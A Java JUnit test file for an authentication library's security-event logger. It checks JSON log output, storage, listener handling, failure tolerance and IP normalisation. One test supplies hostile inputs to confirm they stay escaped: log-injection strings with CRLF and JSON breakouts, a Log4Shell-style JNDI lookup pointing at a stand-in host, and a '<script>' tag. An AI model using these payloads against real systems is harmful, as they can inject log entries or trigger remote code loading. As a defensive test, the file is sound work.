package io.countersign.auth.event;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.entry;

import io.countersign.auth.Actor;
import io.countersign.auth.SecurityEvent;
import io.countersign.auth.core.LogLines;
import io.countersign.auth.core.TestClock;
import io.countersign.auth.spi.InMemorySecurityEventStore;
import io.countersign.auth.spi.SecurityEventQuery;
import io.countersign.auth.spi.SecurityEventStore;
import io.countersign.auth.spi.StoredSecurityEvent;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.UUID;
import java.util.function.Consumer;
import java.util.logging.Handler;
import java.util.logging.LogRecord;
import java.util.logging.Logger;
import org.jose4j.json.JsonUtil;
import org.jose4j.lang.JoseException;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;
import org.junit.jupiter.params.provider.ValueSource;

class SecurityEventsTest {

  private static final UUID USER = UUID.randomUUID();
  private static final UUID SESSION = UUID.randomUUID();
  private static final String NOT_LOGGED = "A security event was not logged";
  private static final String NOT_KEPT = "A security event was not kept";
  private static final String LISTENER_FAILED = "A listener failed at a security event";

  private final TestClock clock = new TestClock();
  private final InMemorySecurityEventStore store = new InMemorySecurityEventStore();
  private final List<SecurityEvent> heard = new ArrayList<>();
  private final SecurityEvents events = new SecurityEvents(store, List.of(heard::add), clock);
  private final LogLines lines = new LogLines(SecurityEvents.LOGGER);
  private final LogLines failures = new LogLines(SecurityEvents.class.getName());

  /** A store that is away. */
  private static final class FailingStore implements SecurityEventStore {
    @Override
    public void add(SecurityEvent event) {
      throw new IllegalStateException("away");
    }

    @Override
    public List<StoredSecurityEvent> list(SecurityEventQuery query) {
      throw new IllegalStateException("away");
    }

    @Override
    public List<StoredSecurityEvent> listAfter(long after, int limit) {
      throw new IllegalStateException("away");
    }

    @Override
    public Optional<List<Count>> count(Steps steps, int most) {
      throw new IllegalStateException("away");
    }
  }

  /** A log that is full. */
  private static final class FailingHandler extends Handler {
    @Override
    public void publish(LogRecord logged) {
      throw new IllegalStateException("full");
    }

    @Override
    public void flush() {}

    @Override
    public void close() {}
  }

  @AfterEach
  void close() {
    lines.close();
    failures.close();
  }

  private SecurityEvent login() {
    return events.now(SecurityEvent.Type.LOGIN).ofUser(USER).ofSession(SESSION);
  }

  private String line() {
    assertThat(lines.lines()).hasSize(1);
    return lines.lines().get(0);
  }

  private Map<String, Object> json() throws JoseException {
    return JsonUtil.parseJson(line());
  }

  @Test
  void report_everythingKnown_isOneLineOfJson() throws JoseException {
    events.report(
        login()
            .by(new Actor(USER.toString(), Optional.of("192.0.2.1")))
            .with(Map.of("device", "Anna's phone")));
    assertThat(json())
        .containsExactly(
            entry("at", "2026-01-01T12:00:00Z"),
            entry("type", "login"),
            entry("user_id", USER.toString()),
            entry("session_id", SESSION.toString()),
            entry("actor", USER.toString()),
            entry("ip", "192.0.2.1"),
            entry("detail", Map.of("device", "Anna's phone")));
  }

  @Test
  void report_insideATrace_namesItWhereverTheEventGoes() throws JoseException {
    SecurityEvents traced =
        new SecurityEvents(store, List.of(heard::add), () -> Optional.of("4bf92f35"), clock);
    traced.report(login().with(Map.of("device", "Anna's phone")));
    Map<String, String> detail = Map.of("device", "Anna's phone", "trace_id", "4bf92f35");
    assertThat(json()).contains(entry("detail", detail));
    assertThat(heard).singleElement().extracting(SecurityEvent::detail).isEqualTo(detail);
    assertThat(store.events()).singleElement().extracting(SecurityEvent::detail).isEqualTo(detail);
  }

  @Test
  void report_nothingKnown_saysNoMore() throws JoseException {
    events.report(events.now(SecurityEvent.Type.LOGOUT_ALL));
    assertThat(json())
        .containsExactly(
            entry("at", "2026-01-01T12:00:00Z"),
            entry("type", "logout_all"),
            entry("detail", Map.of()));
  }

  @ParameterizedTest
  @EnumSource
  void report_anyType_isNamedInLowerCase(SecurityEvent.Type type) throws JoseException {
    events.report(events.now(type));
    assertThat((String) json().get("type")).matches("[a-z_]+").isEqualToIgnoringCase(type.name());
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "\"",
        "\\",
        "\",\"type\":\"logout",
        "\r\n{\"type\":\"logout\"}",
        "\u0000\b\t\u001B[31m\u007F\u0085\u2028\u2029",
        "{0} %s ${jndi:ldap://evil.example}",
        "\u00E4\u20AC\uD83D\uDE00"
      })
  void report_hostileText_staysInItsPlace(String hostile) throws JoseException {
    Map<String, String> detail = Map.of("device", hostile, hostile, "value");
    events.report(login().by(new Actor(hostile, Optional.empty())).with(detail));
    assertThat(line()).doesNotContainPattern("[\\p{Cc}\\p{Zl}\\p{Zp}]");
    assertThat(json())
        .containsEntry("type", "login")
        .containsEntry("actor", hostile)
        .containsEntry("detail", detail);
  }

  @Test
  void report_anEvent_isKeptAndHeardAsItIs() {
    SecurityEvent event = login().with(Map.of("device", "phone"));
    events.report(event);
    assertThat(store.events()).containsExactly(event);
    assertThat(heard).containsExactly(event);
    assertThat(failures.lines()).isEmpty();
  }

  @Test
  void report_storeFails_isLoggedAndHeard() {
    SecurityEvents unkept = new SecurityEvents(new FailingStore(), List.of(heard::add), clock);
    unkept.report(login());
    assertThat(heard).containsExactly(login());
    assertThat(line()).contains(SESSION.toString());
    assertThat(failures.lines()).containsExactly(NOT_KEPT);
  }

  @Test
  void report_listenerFails_isLoggedKeptAndHeardByTheOthers() {
    Consumer<SecurityEvent> failing =
        event -> {
          throw new IllegalStateException("broken");
        };
    new SecurityEvents(store, List.of(heard::add, failing, heard::add), clock).report(login());
    assertThat(heard).containsExactly(login(), login());
    assertThat(store.events()).containsExactly(login());
    assertThat(line()).contains(SESSION.toString());
    assertThat(failures.lines()).containsExactly(LISTENER_FAILED);
  }

  @Test
  void report_logFails_isKeptAndHeard() {
    Logger logger = Logger.getLogger(SecurityEvents.LOGGER);
    Handler full = new FailingHandler();
    logger.addHandler(full);
    try {
      events.report(login());
    } finally {
      logger.removeHandler(full);
    }
    assertThat(store.events()).containsExactly(login());
    assertThat(heard).containsExactly(login());
    assertThat(failures.lines()).containsExactly(NOT_LOGGED);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "",
        "localhost",
        "evil.example",
        "192.0.2.1, 198.51.100.7",
        "192.0.2.1\r\n",
        "192.0.2.256",
        "<script>",
        "\"}"
      })
  void report_addressThatIsNone_isDropped(String address) throws JoseException {
    events.report(login().from(Optional.of(address)));
    assertThat(json()).doesNotContainKey("ip").containsEntry("type", "login");
    assertThat(store.events()).containsExactly(login());
    assertThat(heard).containsExactly(login());
  }

  @Test
  void report_mappedAddress_hasItsOneSpelling() throws JoseException {
    events.report(login().from(Optional.of("::ffff:192.0.2.1")));
    assertThat(json()).containsEntry("ip", "192.0.2.1");
    assertThat(store.events()).containsExactly(login().from(Optional.of("192.0.2.1")));
  }

  /** So that those of before are found beside those of today. */
  @Test
  void report_ipv6_isKeptInGroupsAndToldAsRfc5952Writes() throws JoseException {
    events.report(login().from(Optional.of("2001:DB8::1")));
    assertThat(json()).containsEntry("ip", "2001:db8::1");
    assertThat(heard).containsExactly(login().from(Optional.of("2001:db8::1")));
    assertThat(store.events()).containsExactly(login().from(Optional.of("2001:db8:0:0:0:0:0:1")));
  }

  @Test
  void now_isInMicroseconds_asItIsKept() {
    clock.advance(Duration.ofNanos(1_999));
    assertThat(login().at()).isEqualTo(TestClock.START.plusNanos(1_000));
  }
}
